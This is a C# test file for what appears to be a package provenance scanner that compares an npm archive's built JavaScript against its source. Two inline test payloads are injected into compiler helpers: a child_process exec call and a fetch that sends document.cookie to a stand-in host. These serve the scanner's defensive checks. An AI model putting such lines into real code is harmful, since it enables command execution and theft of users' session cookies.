using System.Globalization;
using System.Text;
using Sluice.Policies;
using Sluice.Sources;
using Sluice.Tests.Support;

namespace Sluice.Tests.Sources;

/// <summary>What compilers and bundlers make of a source, and what somebody adds to that.</summary>
public sealed class BuiltFileTests
{
    private const string Manifest = """{"name":"counter","version":"1.2.3","license":"MIT","main":"dist/index.js"}""";

    private static readonly string Written = "import { Storage } from './storage';\n\nexport class Counter extends Storage {\n" + Functions("  async {0}(incomingValue: number) {{\n    await this.persistCounter('{1}', incomingValue);\n  }}\n") + "}\n";

    /// <summary>In the manner of compilers that aim at old engines.</summary>
    private static readonly string Helpers = """
        "use strict";
        var __extends = (this && this.__extends) || (function () {
            var extendStatics = function (d, b) { for (var p in b) if (Object.prototype.hasOwnProperty.call(b, p)) d[p] = b[p]; };
            return function (subClass, superClass) { extendStatics(subClass, superClass); subClass.prototype = Object.create(superClass.prototype); };
        })();
        var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
            return new P(function (resolve, reject) { function fulfilled(value) { resolve(generator.next(value)); } fulfilled(_arguments); });
        };
        var __classPrivateFieldGet = (this && this.__classPrivateFieldGet) || function (receiver, state) { return state.get(receiver); };
        function _possibleConstructorReturn(self, call) { return call || self; }
        function _unsupportedIterableToArray(o, minLen) { return Array.prototype.slice.call(o, 0, minLen); }

        """;

    [Fact]
    public void Helpers_that_compilers_add_need_no_explanation()
    {
        var report = Hold(("dist/small.js", Helpers + "exports.openStorage = function () { return new Storage('counter_alpha'); };\n"), ("dist/index.js", Compiled()));

        Assert.Empty(SourceFolder.Comparison(report).Unexplained);
        Assert.Empty(SourceFolder.Provenance(report));
    }

    [Theory]
    [InlineData("require('child_process').exec('id')")]
    [InlineData("fetch('https://collect.acme-fake.club/' + document.cookie)")]
    public void What_stands_in_a_helper_counts_for_what_it_does(string payload)
    {
        var report = Hold(("dist/index.js", Compiled().Replace("fulfilled(_arguments);", payload + ";", StringComparison.Ordinal)));

        Assert.Contains(SourceFolder.Provenance(report), finding => finding is "source-mismatch High" or "source-mismatch Medium");
    }

    [Fact]
    public void A_single_strange_host_in_what_a_build_made_is_told_and_stops_nothing()
    {
        var report = Hold(("dist/index.js", Compiled() + "exports.address = 'https://collect.acme-fake.club/x';\n"));

        Assert.Equal(["source-mismatch Medium"], SourceFolder.Provenance(report));
        Assert.Contains("collect.acme-fake.club", report.Findings.First(finding => finding.Finding.Rule.Id == "provenance/source-mismatch").Finding.Message, StringComparison.Ordinal);
        Assert.Equal(Decision.Allow, report.Decision);
    }

    [Fact]
    public void A_host_of_the_source_is_none()
    {
        var report = Hold(("dist/index.js", Compiled() + "exports.address = 'https://docs.acme-counter.dev/x';\n"));

        Assert.Empty(SourceFolder.Provenance(report));
    }

    [Theory]
    [InlineData(".npmrc")]
    [InlineData("lib/pip.conf")]
    [InlineData(".yarnrc.yml")]
    public void Settings_of_package_managers_that_the_source_does_not_have_are_told(string path)
    {
        var report = Hold(("dist/index.js", Compiled()), (path, "registry=https://packages.acme-fake.club/\n"));

        Assert.Contains(report.Findings, finding => finding.Finding.Rule.Id == "provenance/source-mismatch" && finding.Finding.Entry.Path.Value.EndsWith(path, StringComparison.Ordinal) && finding.Action == PolicyAction.Warn);
    }

    [Theory]
    [InlineData("""["../src/index.ts"]""", null, FileOrigin.Derived)]
    [InlineData("""["src/index.ts","src/storage.ts"]""", "..", FileOrigin.Derived)]
    [InlineData("""["webpack://counter/./src/index.ts"]""", null, FileOrigin.Derived)]
    [InlineData("""["../src/index.ts","../src/elsewhere.ts"]""", null, FileOrigin.Unexplained)]
    [InlineData("""["../../other/src/main.ts"]""", null, FileOrigin.Unexplained)]
    public void A_map_that_only_names_its_sources_is_of_the_source_where_it_has_them(string sources, string? root, FileOrigin origin)
    {
        var map = $$"""{"version":3,"file":"index.js"{{(root is null ? "" : $",\"sourceRoot\":\"{root}\"")}},"sources":{{sources}},"names":["unrelatedIdentifier","anotherIdentifier","furtherIdentifier"],"mappings":"AAAA;AACA"}""";
        var report = Hold(("dist/index.js", Compiled()), ("dist/index.js.map", map));

        Assert.Equal(origin == FileOrigin.Unexplained, SourceFolder.Comparison(report).Unexplained.Any(file => file.Path.EndsWith(".map", StringComparison.Ordinal)));
    }

    private static string Compiled() => Helpers + "var Counter = (function (_super) {\n    __extends(Counter, _super);\n" + Functions("    Counter.prototype.{0} = function (incomingValue) {{ return __awaiter(this, void 0, void 0, function () {{ return this.persistCounter('{1}', incomingValue); }}); }};\n") + "    return Counter;\n}(Storage));\nexports.Counter = Counter;\n";

    private static string Functions(string format) => string.Concat(Enumerable.Range(0, 12).Select(i => string.Format(CultureInfo.InvariantCulture, format, $"increaseCounter{(char)('A' + i)}", $"counter_{(char)('a' + i)}lpha")));

    private static Report Hold(params (string Path, string Text)[] files)
    {
        using var tree = SourceFolder.Of("v1.2.3", ("package.json", Manifest), ("src/index.ts", Written), ("src/storage.ts", "export class Storage {\n  openStorage() {\n    return 'counter_alpha';\n  }\n}\n"), ("src/links.ts", "export const home = 'https://docs.acme-counter.dev/';\n"));
        return tree.Hold("counter-1.2.3.tgz", TestArchive.Npm(Manifest, [.. files.Select(file => (file.Path, file.Text))]));
    }
}
